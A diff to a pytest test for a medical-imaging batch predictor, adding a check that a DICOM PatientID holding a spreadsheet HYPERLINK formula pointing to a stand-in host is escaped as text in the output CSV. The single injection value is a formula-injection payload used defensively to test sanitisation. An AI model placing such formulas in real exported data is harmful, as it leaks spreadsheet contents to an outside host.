@@ -138,11 +138,19 @@ def test_batch_writes_one_row_per_study(trained_run, cohort, tmp_path):
     for p in patient_files(site, victim):  # this study loses its cine: its row says why, the rest go on
         if not _is_lge(p):
             p.unlink()
+    # a PatientID a spreadsheet would run as a formula (and with a comma) stays text in the CSV
+    other = next(p for p in labels_of(site) if p != victim)
+    hostile = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
+    for p in patient_files(site, other):
+        ds = pydicom.dcmread(p)
+        ds.PatientID = hostile
+        ds.save_as(p)
     rows = predict_batch(site, run / "model.pt", tmp_path / "out", progress=False)
     with open(tmp_path / "out" / "predictions.csv") as f:
         table = list(csv.DictReader(f))
     assert len(table) == len(rows) == len(labels_of(site))
     by_id = {r["patient_id"]: r for r in table}
+    assert "'" + hostile in by_id and not any(k.startswith("=") for k in by_id)
     assert "cine" in by_id[victim]["error"] and by_id[victim]["predicted"] == ""
     ok = [r for r in table if not r["error"]]
     assert len(ok) == len(table) - 1
